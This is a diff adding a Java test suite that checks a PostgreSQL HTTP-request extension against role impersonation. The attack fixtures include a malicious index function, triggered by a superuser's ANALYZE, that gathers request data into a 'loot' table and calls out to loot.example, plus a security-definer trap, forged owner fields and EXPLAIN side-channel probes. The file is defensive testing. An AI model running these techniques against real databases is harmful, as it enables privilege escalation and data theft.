@@ -1,0 +1,203 @@
+package io.pgnetty.attack;
+
+import static io.pgnetty.attack.Attackers.ATTACKER;
+import static io.pgnetty.attack.Attackers.VICTIM;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+
+import io.pgnetty.testing.TestDatabase;
+import java.sql.Connection;
+import java.sql.SQLException;
+import java.sql.Statement;
+import java.util.List;
+import org.junit.jupiter.api.Test;
+
+/** Attempts to be somebody else: by code that a superuser or another role runs, and by what a call may be told. */
+class AttackIdentityTest {
+
+    private final TestDatabase database = Attackers.database();
+
+    /** As autovacuum does, a superuser's ANALYZE runs the index expressions of a table as its owner, and is a superuser. */
+    @Test
+    void anIndexExpressionThatASuperuserRunsIsItsOwners() {
+        prepareVictim();
+        database.as(ATTACKER)
+                .run("create table public.bait (id int); insert into public.bait values (1);"
+                        + " create table public.loot (what text);"
+                        + " create function public.take() returns void language plpgsql as $$ begin"
+                        + "   insert into public.loot select 'role ' || net.caller();"
+                        + "   insert into public.loot select 'request ' || id from net.my_requests;"
+                        + "   insert into public.loot select 'response ' || id from net._http_response;"
+                        + "   insert into public.loot select 'cancelled ' || net.cancel_where('*');"
+                        + "   insert into public.loot select 'queued ' || net.http_get('http://loot.example/'); end $$;"
+                        + " create function public.steal(i int) returns int language plpgsql immutable as $$ begin"
+                        + "   perform public.take(); return i; end $$;"
+                        + " create index on public.bait (public.steal(id)); truncate public.loot");
+        for (String by : List.of(
+                "analyze public.bait",
+                "reindex table public.bait",
+                "create index on public.bait (public.steal(id))",
+                "cluster public.bait using bait_steal_idx")) {
+            try {
+                database.run(by);
+            } catch (TestDatabase.Failed e) {
+                // PostgreSQL itself may refuse what such code wants to do.
+                assertThat(e.getMessage()).contains("security-restricted");
+            }
+        }
+        database.as(ATTACKER).run("create materialized view public.view as select public.steal(1)");
+        database.run("refresh materialized view public.view");
+        assertThat(
+                        database.rows(
+                                "select distinct what from public.loot where what not like 'queued %'"
+                                        + " and what not like 'request %' and what not like 'response %' or what in ('request 1', 'response 1')"))
+                .allSatisfy(row -> assertThat(row.get(0)).isIn("role " + ATTACKER, "cancelled 0", "cancelled 1"));
+        assertVictimIsWhole();
+        assertThat(database
+                        .rows("select distinct queued_by::text from net.http_request_queue"
+                                + " where host = 'loot.example'")
+                        .stream()
+                        .map(row -> row.get(0))
+                        .toList())
+                .isSubsetOf(ATTACKER);
+    }
+
+    @Test
+    void aDefinerFunctionOfOneReadsNothingOfWhoCallsIt() {
+        prepareVictim();
+        database.as(ATTACKER)
+                .run("create table public.loot (what text);"
+                        + " create function public.helpful() returns text language plpgsql security definer as $$ begin"
+                        + "   insert into public.loot select 'request ' || id from net.my_requests;"
+                        + "   insert into public.loot select 'response ' || id from net._http_response;"
+                        + "   insert into public.loot select 'cancelled ' || net.cancel_where('*');"
+                        + "   perform net.http_get('http://loot.example/');"
+                        + "   return net.caller(); end $$;"
+                        + " grant execute on function public.helpful() to public");
+        for (TestDatabase caller : List.of(database.as(VICTIM), database)) {
+            assertThat(caller.one("select public.helpful()")).isEqualTo(ATTACKER);
+        }
+        assertThat(database.rows("select what from public.loot where what like 'response%'"))
+                .isEmpty();
+        assertThat(database.rows(
+                        "select distinct queued_by::text from net.http_request_queue" + " where host = 'loot.example'"))
+                .containsExactly(List.of(ATTACKER));
+        assertVictimIsWhole();
+    }
+
+    @Test
+    void whoGivesAnOrderCannotBeSaid() {
+        prepareVictim();
+        TestDatabase eve = database.as(ATTACKER);
+        for (String order : List.of(
+                "net.cancellation (host, ordered_by) values ('*', '" + VICTIM + "'::regrole)",
+                "net.redelivery (host, ordered_by) values ('*', '" + VICTIM + "'::regrole)",
+                "net.key_lookup (key, ordered_by) values ('k', '" + VICTIM + "'::regrole)",
+                "net.http_request_queue (method, url, queued_by) values ('GET', 'http://h/', '" + VICTIM
+                        + "'::regrole)",
+                "net.http_request_queue (method, url, host) values ('GET', 'http://h/', 'other')",
+                "net.http_request_queue (id, method, url) overriding system value values (1, 'GET', 'http://h/')",
+                "net.new_request (id, method, url) overriding system value values (1, 'GET', 'http://h/')")) {
+            assertThatThrownBy(() -> eve.run("insert into " + order)).as(order).hasMessageContaining("denied");
+        }
+        assertVictimIsWhole();
+    }
+
+    @Test
+    void settingsOfTheSessionLendNobodysRights() throws SQLException {
+        prepareVictim();
+        for (String setting : List.of(
+                "set row_security = off",
+                "set net.quiet = on",
+                "set pgnetty.grantees = '{public}'",
+                "set search_path = ''",
+                "set default_transaction_isolation = 'serializable'",
+                "set plan_cache_mode = force_generic_plan",
+                "set enable_indexscan = off")) {
+            try (Connection connection = database.as(ATTACKER).connect();
+                    Statement statement = connection.createStatement()) {
+                statement.execute(setting);
+                assertThat(TestDatabase.rows(statement, "select net.cancel_where('*'), net.http_request_status(1)"))
+                        .as(setting)
+                        .containsExactly(List.of("0", "unknown"));
+                assertThat(TestDatabase.rows(statement, "select count(*) from net.my_requests"))
+                        .as(setting)
+                        .containsExactly(List.of("0"));
+            }
+        }
+        assertVictimIsWhole();
+    }
+
+    /** PostgREST and its like: one session, many roles. */
+    @Test
+    void theNextRequestOnAConnectionIsSomebodyElse() throws SQLException {
+        prepareVictim();
+        database.run("do $$ begin create role attack_gate login noinherit password 'attack_gate';"
+                + " exception when duplicate_object then null; end $$; grant " + VICTIM + ", " + ATTACKER
+                + " to attack_gate");
+        try (Connection connection = database.as("attack_gate").connect();
+                Statement statement = connection.createStatement()) {
+            connection.setAutoCommit(false);
+            for (int i = 0; i < 12; i++) {
+                boolean victim = i % 2 == 0;
+                statement.execute("set local role " + (victim ? VICTIM : ATTACKER));
+                // Often enough for cached plans.
+                assertThat(TestDatabase.rows(
+                                statement,
+                                "select (select count(*) from net.my_requests), (select count(*) from net._http_response),"
+                                        + " net.http_request_status(1), (net.http_get_result(1)).status, net.caller()"))
+                        .containsExactly(
+                                victim
+                                        ? List.of("1", "1", "queued", "SUCCESS", VICTIM)
+                                        : List.of("0", "0", "unknown", "ERROR", ATTACKER));
+                connection.commit();
+            }
+        }
+    }
+
+    /** What explain analyze counts must be the same whether somebody else's row is there or not. */
+    @Test
+    void explainTellsNothingOfRowsOfOthers() {
+        prepareVictim();
+        TestDatabase eve = database.as(ATTACKER);
+        for (String relation : List.of("net._http_response", "net.my_requests", "net.attempts", "net.dead_letter")) {
+            assertThat(explained(eve, relation, "id = 1")).as(relation).isEqualTo(explained(eve, relation, "id = 777"));
+            assertThat(explained(eve, relation, "id between 1 and 1 order by id"))
+                    .as(relation)
+                    .isEqualTo(explained(eve, relation, "id between 777 and 777 order by id"));
+        }
+        for (String relation : List.of("net._http_response", "net.my_requests", "net.dead_letter")) {
+            for (String condition : List.of(
+                    "dedupe_key >= '%s'",
+                    "dedupe_key = '%s'",
+                    "dedupe_key like '%s'",
+                    "queued_by = '" + VICTIM + "'::regrole and dedupe_key >= '%s'")) {
+                assertThat(explained(eve, relation, condition.formatted("the-key")))
+                        .as(relation + " where " + condition)
+                        .isEqualTo(explained(eve, relation, condition.formatted("zzz-key")));
+            }
+        }
+    }
+
+    private static String explained(TestDatabase role, String relation, String condition) {
+        List<List<String>> plan = role.rows("explain (analyze, costs off, timing off, summary off) select * from "
+                + relation + " where " + condition);
+        return plan.toString().replaceAll("(<=|>=|=) (777|1)\\b", "$1 N").replaceAll("(the|zzz)-key", "K");
+    }
+
+    private void prepareVictim() {
+        database.as(VICTIM)
+                .run("select net.http_request('GET', 'http://victim.example/', idempotency_key := 'the-key')");
+        database.run("insert into net._http_response (id, queued_by, content, dedupe_key) values (1, '" + VICTIM
+                + "'::regrole, 'secret', 'the-key')");
+    }
+
+    private void assertVictimIsWhole() {
+        assertThat(database.rows(
+                        "select id, queued_by::text from net.http_request_queue where host = 'victim.example'"))
+                .containsExactly(List.of("1", VICTIM));
+        assertThat(database.rows(
+                        "select id, content from net._http_response where queued_by = '" + VICTIM + "'::regrole"))
+                .containsExactly(List.of("1", "secret"));
+    }
+}
